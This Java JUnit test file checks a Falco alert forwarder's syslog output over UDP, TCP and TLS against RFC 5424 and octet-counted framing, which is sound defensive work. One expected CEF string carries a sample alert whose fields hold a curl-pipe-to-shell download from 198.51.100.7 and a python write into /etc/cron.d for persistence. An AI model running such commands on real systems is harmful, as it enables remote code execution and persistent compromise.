package dev.peregrine.sidekick.output.syslog;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.peregrine.sidekick.alert.Alert;
import dev.peregrine.sidekick.alert.Priority;
import dev.peregrine.sidekick.config.ConfigException;
import dev.peregrine.sidekick.output.DeliveryException;
import dev.peregrine.sidekick.output.Output;
import dev.peregrine.sidekick.output.OutputContext;
import dev.peregrine.sidekick.output.TlsConfig;
import dev.peregrine.sidekick.testing.Loopback;
import dev.peregrine.sidekick.testing.SampleAlerts;
import dev.peregrine.sidekick.testing.TestCertificates;
import java.io.IOException;
import java.io.InputStream;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import javax.net.ssl.SSLServerSocket;
import javax.net.ssl.SSLSocket;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/**
 * The syslog output against real listeners on loopback (a UDP socket, a TCP server socket, a TLS
 * server socket with a certificate made for the test) that parse what they receive as RFC 5424
 * says: the header fields, the structured data, and the octet-counting frames of RFC 6587/5425.
 */
class SyslogOutputTest {
    static final JsonMapper JSON = JsonMapper.builder().build();
    static final OutputContext CONTEXT = new OutputContext("siem", "peregrine.outputs.siem");
    static final Duration WAIT = Duration.ofSeconds(10);

    @TempDir
    static Path certs;

    final List<AutoCloseable> resources = new ArrayList<>();

    @AfterEach
    void closeAll() throws Exception {
        for (AutoCloseable r : resources.reversed()) {
            r.close();
        }
    }

    static SyslogConfig config(int port, String protocol, String format, String facility, String sdId, TlsConfig tls) {
        return new SyslogConfig(
                "127.0.0.1", port, protocol, format, facility, "falco", null, sdId, Duration.ofSeconds(5), tls);
    }

    Output open(SyslogConfig config) {
        Output out = config.create(CONTEXT);
        resources.add(out);
        return out;
    }

    // --- an RFC 5424 parser, written from the ABNF of section 6

    record Message(
            int pri,
            String timestamp,
            String hostname,
            String appName,
            String procId,
            String msgId,
            Map<String, Map<String, String>> sd,
            byte[] msg) {
        int facility() {
            return pri / 8;
        }

        int severity() {
            return pri % 8;
        }

        String text() {
            return new String(msg, StandardCharsets.UTF_8);
        }
    }

    static final Pattern HEADER =
            Pattern.compile("<(\\d{1,3})>1 (\\S{1,64}) ([!-~]{1,255}) ([!-~]{1,48}) ([!-~]{1,128}) ([!-~]{1,32}) ");
    static final Pattern TIMESTAMP =
            Pattern.compile("\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d(\\.\\d{1,6})?(Z|[+-]\\d\\d:\\d\\d)");

    static Message parse(byte[] bytes) {
        String s = new String(bytes, StandardCharsets.UTF_8);
        Matcher m = HEADER.matcher(s);
        assertThat(m.lookingAt()).as("RFC 5424 header in: %s", s).isTrue();
        assertThat(m.group(2)).matches(TIMESTAMP);
        int i = m.end();
        Map<String, Map<String, String>> sd = new LinkedHashMap<>();
        if (s.charAt(i) == '-') {
            i++;
        } else {
            while (i < s.length() && s.charAt(i) == '[') {
                int j = i + 1;
                while (" =]\"".indexOf(s.charAt(j)) < 0) {
                    j++;
                }
                String id = s.substring(i + 1, j);
                Map<String, String> params = new LinkedHashMap<>();
                while (s.charAt(j) == ' ') {
                    int eq = s.indexOf('=', j);
                    String name = s.substring(j + 1, eq);
                    assertThat(name).matches("[!-~&&[^=\\]\" ]]{1,32}");
                    assertThat(s.charAt(eq + 1)).isEqualTo('"');
                    StringBuilder value = new StringBuilder();
                    int k = eq + 2;
                    for (; s.charAt(k) != '"'; k++) {
                        char c = s.charAt(k);
                        if (c == '\\' && "\"\\]".indexOf(s.charAt(k + 1)) >= 0) {
                            c = s.charAt(++k);
                        } else {
                            assertThat(c).as("unescaped ']' in a PARAM-VALUE").isNotEqualTo(']');
                        }
                        value.append(c);
                    }
                    params.put(name, value.toString());
                    j = k + 1;
                }
                assertThat(s.charAt(j)).isEqualTo(']');
                sd.put(id, params);
                i = j + 1;
            }
        }
        byte[] msg = new byte[0];
        if (i < s.length()) {
            assertThat(s.charAt(i)).isEqualTo(' ');
            int offset = s.substring(0, i + 1).getBytes(StandardCharsets.UTF_8).length;
            msg = Arrays.copyOfRange(bytes, offset, bytes.length);
        }
        return new Message(
                Integer.parseInt(m.group(1)), m.group(2), m.group(3), m.group(4), m.group(5), m.group(6), sd, msg);
    }

    /** Reads one octet-counted frame: MSG-LEN SP SYSLOG-MSG (RFC 6587 3.4.1, RFC 5425 4.3). */
    static byte[] readFrame(InputStream in) throws IOException {
        int len = 0;
        int digits = 0;
        for (int c = in.read(); c != ' '; c = in.read()) {
            if (c < 0) {
                return null;
            }
            assertThat((char) c).as("MSG-LEN digit").isBetween('0', '9');
            assertThat(digits == 0 && c == '0')
                    .as("MSG-LEN has no leading zero")
                    .isFalse();
            len = len * 10 + (c - '0');
            digits++;
        }
        byte[] msg = in.readNBytes(len);
        assertThat(msg).hasSize(len);
        return msg;
    }

    /** A TCP (or TLS) syslog server: every frame of every connection, in order. */
    static final class StreamServer implements AutoCloseable {
        final ServerSocket server;
        final BlockingQueue<byte[]> frames = new LinkedBlockingQueue<>();
        final AtomicInteger connections = new AtomicInteger();
        final List<String> peers = Collections.synchronizedList(new ArrayList<>());
        /** When > 0, each connection is closed by the server after this many frames. */
        volatile int framesPerConnection;

        final BlockingQueue<Integer> closedByServer = new LinkedBlockingQueue<>();

        StreamServer(ServerSocket server) {
            this.server = server;
            Thread.ofVirtual().start(() -> {
                while (!server.isClosed()) {
                    try {
                        Socket s = server.accept();
                        int n = connections.incrementAndGet();
                        Thread.ofVirtual().start(() -> serve(s, n));
                    } catch (IOException e) {
                        return;
                    }
                }
            });
        }

        void serve(Socket s, int n) {
            try (s) {
                if (s instanceof SSLSocket tls) {
                    tls.startHandshake();
                    peers.add(
                            tls.getSession().getPeerPrincipal() == null
                                    ? ""
                                    : tls.getSession().getPeerPrincipal().getName());
                }
                InputStream in = s.getInputStream();
                int count = 0;
                byte[] frame;
                while ((frame = readFrame(in)) != null) {
                    frames.add(frame);
                    if (framesPerConnection > 0 && ++count == framesPerConnection) {
                        break;
                    }
                }
            } catch (IOException e) {
                // the client went away
            } finally {
                closedByServer.add(n);
            }
        }

        int port() {
            return server.getLocalPort();
        }

        Message next() throws InterruptedException {
            byte[] f = frames.poll(WAIT.toMillis(), TimeUnit.MILLISECONDS);
            assertThat(f).as("a frame within %s", WAIT).isNotNull();
            return parse(f);
        }

        @Override
        public void close() throws IOException {
            server.close();
        }
    }

    StreamServer tcpServer() throws IOException {
        StreamServer s = new StreamServer(new ServerSocket(0, 16, InetAddress.getLoopbackAddress()));
        resources.add(s);
        return s;
    }

    StreamServer tlsServer(boolean needClientAuth) throws IOException {
        var ssl = new TlsConfig(cert("ca.crt"), cert("server.crt"), cert("server.key")).sslContext();
        SSLServerSocket socket = (SSLServerSocket)
                ssl.getServerSocketFactory().createServerSocket(0, 16, InetAddress.getLoopbackAddress());
        socket.setNeedClientAuth(needClientAuth);
        StreamServer s = new StreamServer(socket);
        resources.add(s);
        return s;
    }

    static Alert sample(int i) {
        return SampleAlerts.alert(i);
    }

    static void assertFalcoJson(byte[] msg, Alert alert, int sample) {
        ObjectNode falco = (ObjectNode) JSON.readTree(SampleAlerts.LINES.get(sample));
        falco.put("uuid", alert.uuid());
        assertThat(JSON.readTree(msg)).isEqualTo(falco);
    }

    static String timestampOf(Alert alert) {
        return OffsetDateTime.ofInstant(alert.time().truncatedTo(ChronoUnit.MICROS), ZoneOffset.UTC)
                .toString()
                .replace("+00:00", "Z");
    }

    // --- UDP

    @Test
    void udpSendsOneRfc5424MessagePerDatagram() throws Exception {
        try (DatagramSocket receiver = new DatagramSocket(0, InetAddress.getLoopbackAddress())) {
            receiver.setSoTimeout((int) WAIT.toMillis());
            Output out = open(config(receiver.getLocalPort(), "udp", "json", "local0", null, TlsConfig.NONE));
            for (int i : new int[] {0, 2, 11}) {
                Alert alert = sample(i);
                out.send(alert);

                DatagramPacket p = new DatagramPacket(new byte[65_536], 65_536);
                receiver.receive(p);
                Message m = parse(Arrays.copyOf(p.getData(), p.getLength()));
                assertThat(m.facility()).isEqualTo(16); // local0
                assertThat(m.severity()).isEqualTo(alert.priority().ordinal());
                assertThat(m.timestamp()).isEqualTo(timestampOf(alert));
                assertThat(Instant.parse(m.timestamp())).isEqualTo(alert.time().truncatedTo(ChronoUnit.MICROS));
                assertThat(m.hostname()).isEqualTo(alert.hostname());
                assertThat(m.appName()).isEqualTo("falco");
                assertThat(m.procId()).isEqualTo("-");
                assertThat(m.msgId()).isEqualTo(alert.rule().replace(' ', '_'));
                assertThat(m.sd()).isEmpty();
                assertFalcoJson(m.msg(), alert, i);
            }
        }
    }

    @Test
    void severityFollowsFalcoPriority() {
        SyslogConfig c = config(514, "udp", "json", "daemon", null, TlsConfig.NONE);
        SyslogOutput out = (SyslogOutput) open(c);
        Alert base = sample(0);
        Map<Priority, Integer> expected = new TreeMap<>(Map.of(
                Priority.EMERGENCY,
                24,
                Priority.ALERT,
                25,
                Priority.CRITICAL,
                26,
                Priority.ERROR,
                27,
                Priority.WARNING,
                28,
                Priority.NOTICE,
                29,
                Priority.INFORMATIONAL,
                30,
                Priority.DEBUG,
                31));
        expected.forEach((priority, pri) -> {
            Alert a = new Alert(
                    base.uuid(),
                    base.time(),
                    base.rule(),
                    priority,
                    base.source(),
                    base.output(),
                    base.outputFields(),
                    base.tags(),
                    base.hostname(),
                    null,
                    null);
            assertThat(parse(out.message(a)).pri()).as("%s", priority).isEqualTo(pri);
        });
    }

    // --- TCP

    @Test
    void tcpFramesEachMessageByOctetCountingOnOneConnection() throws Exception {
        StreamServer server = tcpServer();
        Output out = open(config(server.port(), "tcp", "json", "local7", "falco@32473", TlsConfig.NONE));
        for (int i : new int[] {1, 4, 5}) {
            Alert alert = sample(i);
            out.send(alert);

            Message m = server.next();
            assertThat(m.facility()).isEqualTo(23);
            assertThat(m.severity()).isEqualTo(alert.priority().ordinal());
            assertThat(m.hostname()).isEqualTo(alert.hostname());
            assertThat(m.msgId())
                    .hasSizeLessThanOrEqualTo(32)
                    .isEqualTo(alert.rule()
                            .replace(' ', '_')
                            .substring(0, Math.min(32, alert.rule().length())));
            Map<String, String> expected = new LinkedHashMap<>();
            expected.put("uuid", alert.uuid());
            expected.put("rule", alert.rule());
            expected.put("priority", alert.priority().falcoName());
            expected.put("source", "syscall");
            expected.put("hostname", alert.hostname());
            expected.put("tags", String.join(",", alert.tags()));
            assertThat(m.sd()).containsExactly(Map.entry("falco@32473", expected));
            assertFalcoJson(m.msg(), alert, i);
        }
        assertThat(server.connections.get()).isEqualTo(1);
    }

    @Test
    void structuredDataAndJsonAreEscapedAndStayAscii() throws Exception {
        StreamServer server = tcpServer();
        Output out = open(config(server.port(), "tcp", "json", "local0", "falco@32473", TlsConfig.NONE));
        Alert alert = new Alert(
                "0b6c1a4e-3f57-4c1e-9d0a-1f2e3d4c5b6a",
                Instant.parse("2025-11-20T09:14:02.118734512Z"),
                "Odd \"rule\" [x] \\ ünïcode",
                Priority.ERROR,
                "syscall",
                "café ] \" \\ done",
                new TreeMap<>(Map.of("fd.name", "/tmp/ñ")),
                List.of("a]b"),
                "",
                null,
                null);
        out.send(alert);

        byte[] raw = server.frames.poll(WAIT.toMillis(), TimeUnit.MILLISECONDS);
        assertThat(raw).isNotNull();
        Message m = parse(raw);
        assertThat(m.hostname()).isEqualTo("-"); // no hostname: NILVALUE
        assertThat(m.timestamp()).isEqualTo("2025-11-20T09:14:02.118734Z");
        assertThat(m.msgId()).isEqualTo("Odd_\"rule\"_[x]_\\__n_code"); // one '_' per character outside PRINTUSASCII
        assertThat(m.sd().get("falco@32473"))
                .containsEntry("rule", "Odd \"rule\" [x] \\ ünïcode")
                .containsEntry("tags", "a]b")
                .doesNotContainKey("hostname");
        // MSG is plain ASCII (no BOM needed); JSON's \\u escapes give the exact text back.
        byte[] msg = m.msg();
        for (byte b : msg) {
            assertThat(b & 0xff).isLessThan(128);
        }
        assertThat(JSON.readTree(msg).get("output").stringValue()).isEqualTo("café ] \" \\ done");
        assertThat(JSON.readTree(msg).get("output_fields").get("fd.name").stringValue())
                .isEqualTo("/tmp/ñ");
    }

    @Test
    void reconnectsWhenTheServerClosedTheConnectionWithoutLosingTheNextMessage() throws Exception {
        StreamServer server = tcpServer();
        server.framesPerConnection = 1;
        SyslogConfig c = config(server.port(), "tcp", "json", "local0", null, TlsConfig.NONE);
        SyslogOutput out = new SyslogOutput("siem", c, "tcp", server.port(), 16, Duration.ZERO);
        resources.add(out);

        Alert first = sample(0);
        out.send(first);
        assertThat(JSON.readTree(server.next().msg()).get("uuid").stringValue()).isEqualTo(first.uuid());
        assertThat(server.closedByServer.poll(WAIT.toMillis(), TimeUnit.MILLISECONDS))
                .isEqualTo(1);

        Alert second = sample(1);
        out.send(second);
        assertThat(JSON.readTree(server.next().msg()).get("uuid").stringValue()).isEqualTo(second.uuid());
        assertThat(server.connections.get()).isEqualTo(2);
    }

    @Test
    void refusedConnectionIsRetryable() throws Exception {
        int closedPort = Loopback.closedPort();
        Output out = open(config(closedPort, "tcp", "json", "local0", null, TlsConfig.NONE));

        assertThatThrownBy(() -> out.send(sample(0))).isInstanceOfSatisfying(DeliveryException.class, e -> {
            assertThat(e.retryable()).isTrue();
            assertThat(e.getMessage()).contains("syslog tcp://127.0.0.1:" + closedPort);
        });
    }

    @Test
    void aServerThatComesBackGetsTheRetriedAlert() throws Exception {
        int port = Loopback.closedPort();
        Output out = open(config(port, "tcp", "json", "local0", null, TlsConfig.NONE));
        Alert alert = sample(3);
        assertThatThrownBy(() -> out.send(alert)).isInstanceOf(DeliveryException.class);

        StreamServer server;
        try {
            server = new StreamServer(new ServerSocket(port, 16, InetAddress.getLoopbackAddress()));
        } catch (SocketException e) {
            Assumptions.abort("port " + port + " was taken meanwhile");
            return;
        }
        resources.add(server);
        out.send(alert);
        assertThat(JSON.readTree(server.next().msg()).get("uuid").stringValue()).isEqualTo(alert.uuid());
    }

    @Test
    void aServerThatStopsReadingFailsTheWriteAfterTheTimeoutRetryably() throws Exception {
        try (ServerSocket stuck = new ServerSocket()) {
            stuck.setReceiveBufferSize(4096);
            stuck.bind(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 1);
            List<Socket> accepted = Collections.synchronizedList(new ArrayList<>());
            Thread.ofVirtual().start(() -> {
                try {
                    accepted.add(stuck.accept()); // and never read
                } catch (IOException ignored) {
                    // closed by the test
                }
            });
            SyslogConfig c = new SyslogConfig(
                    "127.0.0.1",
                    stuck.getLocalPort(),
                    "tcp",
                    "json",
                    "local0",
                    "falco",
                    null,
                    null,
                    Duration.ofMillis(500),
                    TlsConfig.NONE);
            Output out = open(c);
            Alert base = sample(0);
            Alert big = new Alert(
                    base.uuid(),
                    base.time(),
                    base.rule(),
                    base.priority(),
                    base.source(),
                    "x".repeat(1 << 20),
                    base.outputFields(),
                    base.tags(),
                    base.hostname(),
                    null,
                    null);
            long start = System.nanoTime();
            DeliveryException failure = null;
            for (int i = 0; i < 256 && failure == null; i++) {
                try {
                    out.send(big);
                } catch (DeliveryException e) {
                    failure = e;
                }
            }
            assertThat(failure).as("a blocked write ends in a failure").isNotNull();
            assertThat(failure.retryable()).isTrue();
            assertThat(failure.getMessage()).contains("write blocked for more than PT0.5S");
            assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(WAIT);
            for (Socket s : accepted) {
                s.close();
            }
        }
    }

    // --- TLS

    @BeforeAll
    static void makeCertificates() throws Exception {
        TestCertificates.make(certs);
        TestCertificates.issue(
                certs, "other", "/CN=elsewhere", "subjectAltName=DNS:elsewhere.example\nextendedKeyUsage=serverAuth\n");
    }

    static String cert(String file) {
        return certs.resolve(file).toString();
    }

    @Test
    void tlsSendsCefFramedByOctetCountingWithAClientCertificate() throws Exception {
        StreamServer server = tlsServer(true);
        Output out = open(config(
                server.port(),
                "tls",
                "cef",
                "local4",
                null,
                new TlsConfig(cert("ca.crt"), cert("client.crt"), cert("client.key"))));
        Alert alert = sample(2);
        out.send(alert);

        Message m = server.next();
        assertThat(m.facility()).isEqualTo(20);
        assertThat(m.severity()).isEqualTo(3); // Error
        assertThat(m.hostname()).isEqualTo("bastion-01");
        assertThat(m.msgId()).isEqualTo("Write_below_etc");
        assertThat(m.text())
                .isEqualTo("CEF:0|Falcosecurity|Falco|1.0|Falco Event|Write below etc|7|uuid="
                        + alert.uuid() + " start=1763632931734"
                        + " msg=" + alert.output().replace("=", "\\=")
                        + " source=syscall hostname=bastion-01 outputfields=container.id:host container.image.repository:"
                        + " container.image.tag: container.name:host evt.time.iso8601:1763632931734400921 evt.type:openat"
                        + " fd.name:/etc/cron.d/sysupdate k8s.ns.name:<NA> k8s.pod.name:<NA> proc.aname[2]:sh"
                        + " proc.aname[3]:sshd proc.aname[4]:sshd"
                        + " proc.cmdline:python3 -c open('/etc/cron.d/sysupdate','w').write(payload)"
                        + " proc.exepath:/usr/bin/python3.11 proc.name:python3"
                        + " proc.pcmdline:sh -c curl -fsSL http://198.51.100.7/i.sh | sh proc.pname:sh proc.tty:34817"
                        + " user.loginuid:1001 user.name:root user.uid:0"
                        + " tags=T1098,container,filesystem,host,maturity_sandbox,mitre_persistence");
        assertThat(server.peers).containsExactly("CN=peregrine-sidekick");
    }

    @Test
    void tlsToAServerWhoseCertificateDoesNotNameTheHostIsRetryable() throws Exception {
        var ssl = new TlsConfig(cert("ca.crt"), cert("other.crt"), cert("other.key")).sslContext();
        StreamServer server = new StreamServer(
                ssl.getServerSocketFactory().createServerSocket(0, 16, InetAddress.getLoopbackAddress()));
        resources.add(server);
        Output out =
                open(config(server.port(), "tls", "json", "local0", null, new TlsConfig(cert("ca.crt"), null, null)));

        assertThatThrownBy(() -> out.send(sample(0)))
                .isInstanceOfSatisfying(
                        DeliveryException.class, e -> assertThat(e.retryable()).isTrue());
        assertThat(server.frames).isEmpty();
    }

    @Test
    void tlsToAnUntrustedServerIsRetryable() throws Exception {
        StreamServer server = tlsServer(false);
        Output out = open(config(server.port(), "tls", "json", "local0", null, TlsConfig.NONE)); // the JVM's CAs

        assertThatThrownBy(() -> out.send(sample(0))).isInstanceOfSatisfying(DeliveryException.class, e -> {
            assertThat(e.retryable()).isTrue();
            assertThat(e.getMessage()).contains("SSLHandshakeException");
        });
        assertThat(server.frames).isEmpty();
    }

    // --- configuration

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "udp | local8 | falco | | | peregrine.outputs.siem.facility: unknown facility 'local8'",
                "udp | 24 | falco | | | peregrine.outputs.siem.facility: unknown facility '24'",
                "udp | local0 | fal co | | | peregrine.outputs.siem.app-name: must be 1 to 48 printable ASCII",
                "udp | local0 | falco | falco | | peregrine.outputs.siem.structured-data-id: not an RFC 5424 SD-ID",
                "udp | local0 | falco | fal=co@1 | | peregrine.outputs.siem.structured-data-id: not an RFC 5424 SD-ID",
                "udp | local0 | falco | | ca | peregrine.outputs.siem.tls: TLS files are only used with protocol: tls"
            })
    void unusableSettingsStopStartupNamingTheKey(
            String protocol, String facility, String appName, String sdId, String ca, String expected) {
        SyslogConfig c = new SyslogConfig(
                "127.0.0.1",
                514,
                protocol,
                "json",
                facility,
                appName,
                null,
                sdId,
                Duration.ofSeconds(5),
                ca == null ? TlsConfig.NONE : new TlsConfig(cert("ca.crt"), null, null));
        assertThatThrownBy(() -> c.create(CONTEXT))
                .isInstanceOfSatisfying(
                        ConfigException.class,
                        e -> assertThat(e.problems()).singleElement().asString().startsWith(expected));
    }

    @Test
    void facilitiesByNameOrNumber() {
        assertThat(SyslogOutput.facility("kern")).isZero();
        assertThat(SyslogOutput.facility("LOCAL3")).isEqualTo(19);
        assertThat(SyslogOutput.facility("23")).isEqualTo(23);
    }

    @Test
    void defaultPortsFollowTheProtocol() throws Exception {
        // 514 for udp and tcp, 6514 for tls (RFC 5425): visible in the failure message of a send.
        try (Output tls = new SyslogConfig(
                        "127.0.0.1",
                        null,
                        "TLS",
                        "json",
                        "local0",
                        "falco",
                        null,
                        null,
                        Duration.ofSeconds(2),
                        TlsConfig.NONE)
                .create(CONTEXT)) {
            assertThatThrownBy(() -> tls.send(sample(0))).hasMessageContaining("syslog tls://127.0.0.1:6514");
        }
    }
}
